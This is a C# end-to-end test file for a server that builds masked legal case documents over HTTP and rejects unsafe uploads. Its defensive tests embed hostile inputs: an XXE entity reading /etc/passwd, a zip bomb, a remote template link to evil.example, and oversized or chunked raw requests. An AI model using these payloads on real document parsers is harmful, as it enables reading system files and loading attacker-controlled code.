using System.IO.Compression;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;

namespace PiiDocs.EndToEnd.Server;

/// <summary>Documents over HTTP: made, set in pages, and refused where they are not what they seem.</summary>
public sealed class DocumentTests
{
    private const string Case = RunningServer.Case;
    private const string Type = RunningServer.Type;

    [Fact]
    public async Task A_document_is_made_as_the_command_line_makes_it()
    {
        await using var server = await RunningServer.Paired();
        var folder = server.PathTo("out");
        Assert.Equal(0, CommandLine.PiiDocs("make", Path.Combine(server.Cases, $"{Case}.yaml"), "--type", Type, "--format", "docx,pdf,html", "-o", folder).Code);

        var answer = await server.Post($"/api/v1/cases/{Case}/make", new { type = Type, formats = new[] { "docx", "pdf", "html" } });
        var files = (await RunningServer.Json(answer))["files"]!.AsArray();

        Assert.Equal(["docx", "pdf", "html"], files.Select(file => (string)file!["format"]!));
        Assert.All(files, file =>
            Assert.Equal(File.ReadAllBytes(Path.Combine(folder, Case, (string)file!["name"]!)), Convert.FromBase64String((string)file["content"]!)));
        Assert.True((int)files[1]!["pages"]! > 0);
    }

    [Fact]
    public async Task The_public_copy_is_masked_and_refused_where_a_type_has_none()
    {
        await using var server = await RunningServer.Paired();

        var copy = await server.Post($"/api/v1/cases/{Case}/make", new { type = "criminal-indictment", formats = new[] { "docx", "pdf", "html" }, audience = "public" });
        var none = await server.Post($"/api/v1/cases/{Case}/make", new { type = "procuratorial-opinion", audience = "public" });

        var files = (await RunningServer.Json(copy))["files"]!.AsArray();
        var word = files.Single(file => (string)file!["format"]! == "docx")!;
        using var package = new ZipArchive(new MemoryStream(Convert.FromBase64String((string)word["content"]!)));
        var body = await new StreamReader(package.GetEntry("word/document.xml")!.Open()).ReadToEndAsync();
        var part = await new StreamReader(package.GetEntry("customXml/item1.xml")!.Open()).ReadToEndAsync();
        Assert.Equal(["docx", "html", "html", "pdf"], files.Select(file => (string)file!["format"]!).Order(StringComparer.Ordinal));
        Assert.Contains("audience=\"public\"", part, StringComparison.Ordinal);
        Assert.Contains("王某某", body, StringComparison.Ordinal);
        Assert.DoesNotContain("990000199104160026", body, StringComparison.Ordinal);
        Assert.Equal("PD7703", await RunningServer.CodeOf(none));
    }

    [Fact]
    public async Task A_case_with_errors_makes_no_document_but_a_draft()
    {
        await using var server = await RunningServer.Paired();
        var path = Path.Combine(server.Cases, $"{Case}.yaml");
        await File.WriteAllTextAsync(path, (await File.ReadAllTextAsync(path)).Replace("name: 陈检察官", "name:", StringComparison.Ordinal));

        var filing = await server.Post($"/api/v1/cases/{Case}/make", new { type = Type });
        var draft = await server.Post($"/api/v1/cases/{Case}/make", new { type = Type, draft = true });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, filing.StatusCode);
        Assert.Contains("$.office.contact.name", (await RunningServer.Json(filing))["diagnostics"]!.AsArray().Select(each => (string?)each!["field"]));
        Assert.Equal(HttpStatusCode.OK, draft.StatusCode);
    }

    [Fact]
    public async Task A_type_or_format_that_there_is_not_is_named()
    {
        await using var server = await RunningServer.Paired();

        Assert.Equal("PD7001", await RunningServer.CodeOf(await server.Post($"/api/v1/cases/{Case}/make", new { type = "pre-suit-notic" })));
        Assert.Equal("PD7826", await RunningServer.CodeOf(await server.Post($"/api/v1/cases/{Case}/make", new { type = Type, formats = new[] { "exe" } })));
        Assert.Equal("PD7826", await RunningServer.CodeOf(await server.Post($"/api/v1/cases/{Case}/make", new { type = Type, formats = new string?[] { null } })));
    }

    [Fact]
    public async Task A_form_has_what_the_schema_knows_and_the_template_reads()
    {
        await using var server = await RunningServer.Paired();
        var path = Path.Combine(server.Cases, $"{Case}.yaml");
        await File.WriteAllTextAsync(path, (await File.ReadAllTextAsync(path)).Replace("name: 陈检察官", "name:", StringComparison.Ordinal));

        var form = await server.Get($"/api/v1/cases/{Case}/forms/{Type}");
        var fields = form["groups"]!.AsArray().SelectMany(group => group!["fields"]!.AsArray()).ToDictionary(field => (string)field!["field"]!);

        Assert.True((bool)fields["$.office.contact.name"]!["missing"]!);
        Assert.Equal("officer-name", (string?)fields["$.office.contact.name"]!["pii"]);
        Assert.Equal("date", (string?)fields["$.documents.pre-suit-notice.date"]!["kind"]);
        Assert.True((bool)fields["$.documents.pre-suit-notice.date"]!["required"]!);
        Assert.DoesNotContain("$.evidence[0].name", fields.Keys);
        Assert.DoesNotContain("$.documents.criminal-indictment.date", fields.Keys);
        Assert.All(form["groups"]!.AsArray(), group => Assert.NotEqual("", (string)group!["label"]!));
    }

    [Fact]
    public async Task A_form_asks_for_nothing_where_the_documents_can_be_made_and_of_no_representative_that_is_not_there()
    {
        await using var server = await RunningServer.Paired();
        foreach (var type in (await server.Get($"/api/v1/cases/{Case}"))["types"]!.AsArray().Select(each => (string)each!["id"]!))
        {
            var form = await server.Get($"/api/v1/cases/{Case}/forms/{type}");
            var missing = form["groups"]!.AsArray().SelectMany(group => group!["fields"]!.AsArray())
                .Where(field => (bool)field!["missing"]! || ((bool)field["required"]! && field["value"] is null));
            Assert.Empty(missing.Select(field => $"{type} {field!["field"]}"));
        }
    }

    [Fact]
    public async Task A_form_for_a_document_the_case_does_not_bear_yet_makes_it_bear_one()
    {
        await using var server = await RunningServer.Paired();
        const string other = "000-baoshan-platform";
        var version = (string)(await server.Get($"/api/v1/cases/{other}"))["version"]!;

        var form = await server.Get($"/api/v1/cases/{other}/forms/apology-notice");
        var saved = await server.Save(other, version, ("$.documents.apology-notice.date", "2024-12-01"));

        Assert.NotEmpty(form["groups"]!.AsArray());
        Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
        Assert.Contains("apology-notice", (await server.Get($"/api/v1/cases/{other}"))["types"]!.AsArray().Select(type => (string?)type!["id"]));
    }

    [Fact]
    public async Task A_check_finds_what_the_command_line_finds()
    {
        await using var server = await RunningServer.Paired();
        var path = Path.Combine(server.Cases, $"{Case}.yaml");
        await File.WriteAllTextAsync(path, (await File.ReadAllTextAsync(path)).Replace("phone: 000-20000301", "phone:", StringComparison.Ordinal));
        var told = JsonNode.Parse(CommandLine.PiiDocs("check", path, "--json").Out)!;

        var check = await server.Get($"/api/v1/cases/{Case}/check");

        Assert.Equal(
            told["diagnostics"]!.AsArray().Select(each => (string?)each!["code"]).Distinct().Order(),
            check["diagnostics"]!.AsArray().Concat(check["documents"]!.AsArray().SelectMany(document => document!["diagnostics"]!.AsArray()))
                .Select(each => (string?)each!["code"]).Distinct().Order());
        Assert.True((int)check["errors"]! > 0);
    }

    [Fact]
    public async Task Deadlines_and_the_uses_of_a_field_are_told()
    {
        await using var server = await RunningServer.Paired();

        var deadlines = await server.Get($"/api/v1/cases/{Case}/deadlines?on=2024-09-20");
        var field = await server.Get($"/api/v1/fields/$.office.name?case={Case}");
        var tagged = await server.Get($"/api/v1/fields/pii:office.name?case={Case}");
        var none = await server.Client.GetAsync($"/api/v1/fields/$.office.nmae?case={Case}");

        Assert.Contains(deadlines.AsArray(), each => (string?)each!["rule"] == "T1" && (string?)each["state"] == "running");
        Assert.Contains(deadlines.AsArray(), each => (string?)each!["rule"] == "T20" && (string?)each["state"] == "notBegun");
        Assert.Equal("PD7826", await RunningServer.CodeOf(await server.Client.GetAsync($"/api/v1/cases/{Case}/deadlines?on=today")));
        Assert.Equal("$.office.name", (string?)tagged["field"]);
        Assert.Equal($"{Case}.yaml", (string?)field["location"]!["file"]);
        Assert.Contains(field["uses"]!.AsArray(), use => (string?)use!["type"] == Type);
        Assert.Equal("PD7836", await RunningServer.CodeOf(none));
    }

    [Fact]
    public async Task A_posted_document_comes_back_as_pages()
    {
        await using var server = await RunningServer.Paired();
        var docx = await server.Docx();

        var pdf = await server.PostDocument("/api/v1/documents/pdf", docx, "application/pdf");
        var json = await RunningServer.Json(await server.PostDocument("/api/v1/documents/pdf", docx));

        Assert.Equal("application/pdf", pdf.Content.Headers.ContentType!.MediaType);
        Assert.StartsWith("%PDF-", Encoding.ASCII.GetString(await pdf.Content.ReadAsByteArrayAsync()), StringComparison.Ordinal);
        Assert.Equal(await pdf.Content.ReadAsByteArrayAsync(), Convert.FromBase64String((string)json["files"]![0]!["content"]!));
    }

    [Fact]
    public async Task Files_that_are_no_documents_or_bombs_are_refused_with_their_reason()
    {
        await using var server = await RunningServer.Paired();
        var docx = await server.Docx();

        Assert.Equal("PD5001", await RunningServer.CodeOf(await server.PostDocument("/api/v1/documents/pdf", "no zip"u8.ToArray())));
        Assert.Equal("PD5002", await RunningServer.CodeOf(await server.PostDocument("/api/v1/documents/pdf", With(docx, "word/document.xml", Bomb()))));
        Assert.Equal("PD5003", await RunningServer.CodeOf(await server.PostDocument("/api/v1/documents/pdf", With(docx, "word/document.xml",
            "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>"u8.ToArray()))));
    }

    [Fact]
    public async Task Macros_and_outside_content_are_named_and_left_alone()
    {
        await using var server = await RunningServer.Paired();
        var docx = With(await server.Docx(), "word/vbaProject.bin", [1, 2, 3]);
        docx = With(docx, "word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes(
            """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"""));

        var answer = await RunningServer.Json(await server.PostDocument("/api/v1/documents/pdf", docx));
        var codes = answer["diagnostics"]!.AsArray().Select(each => (string?)each!["code"]).ToList();

        Assert.Contains("PD5004", codes);
        Assert.Contains("PD5005", codes);
    }

    [Fact]
    public async Task Bodies_that_are_too_large_or_malformed_are_refused()
    {
        await using var server = await RunningServer.Paired();

        var large = await server.PostDocument("/api/v1/documents/pdf", new byte[33 * 1024 * 1024]);
        var json = await server.Client.PostAsync($"/api/v1/cases/{Case}/make", new StringContent("{\"type\":", Encoding.UTF8, "application/json"));
        var kind = await server.Client.PostAsync($"/api/v1/cases/{Case}/make", new StringContent("{\"formats\": 7}", Encoding.UTF8, "application/json"));
        var type = await server.Client.PostAsync($"/api/v1/cases/{Case}/make", new StringContent("type=x", Encoding.UTF8, "text/plain"));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, large.StatusCode);
        Assert.Equal("PD7827", await RunningServer.CodeOf(large));
        Assert.Contains("PD7827", await Sent(server, "documents/pdf", "Content-Length: 36000000", new('x', 36_000_000)), StringComparison.Ordinal);
        Assert.Contains("PD7827", await Sent(server, $"cases/{Case}/make", "Content-Length: 2000000", new('x', 2_000_000)), StringComparison.Ordinal);
        Assert.Contains("PD7827", await Sent(server, $"cases/{Case}/make", "Transfer-Encoding: chunked", $"1E8482\r\n\"{new('x', 2_000_000)}\"\r\n0\r\n\r\n"), StringComparison.Ordinal);
        Assert.Equal("PD7826", await RunningServer.CodeOf(json));
        Assert.Equal("PD7826", await RunningServer.CodeOf(kind));
        Assert.Equal("PD7826", await RunningServer.CodeOf(type));
        Assert.Equal("PD7834", await RunningServer.CodeOf(await server.Client.GetAsync("/api/v1/nothing")));
    }

    // Over HTTP/1.1 all is sent before anything is read: the answer must be there all the same.
    private static async Task<string> Sent(RunningServer server, string path, string length, string body)
    {
        await using var connection = await RawConnection.Open(server);
        var token = server.Client.DefaultRequestHeaders.Authorization!.Parameter;
        return await connection.Send(
            $"POST /api/v1/{path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n{length}\r\n\r\n{body}");
    }

    [Fact]
    public async Task A_client_that_goes_away_while_it_sends_harms_nobody()
    {
        await using var server = await RunningServer.Paired();
        var token = server.Client.DefaultRequestHeaders.Authorization!.Parameter;
        for (var i = 0; i < 5; i++)
        {
            await using var connection = await RawConnection.Open(server);
            await connection.Begin($"POST /api/v1/documents/pdf HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nContent-Length: 100000\r\n\r\nPK");
        }

        Assert.Equal("ok", (string?)(await server.Get("/api/v1/health"))["status"]);
        Assert.NotEmpty(await server.Docx());
    }

    private static byte[] Bomb() => new byte[65 * 1024 * 1024];

    private static byte[] With(byte[] docx, string part, byte[] content)
    {
        using var stream = new MemoryStream();
        stream.Write(docx);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            zip.GetEntry(part)?.Delete();
            using var entry = zip.CreateEntry(part).Open();
            entry.Write(content);
        }

        return stream.ToArray();
    }
}
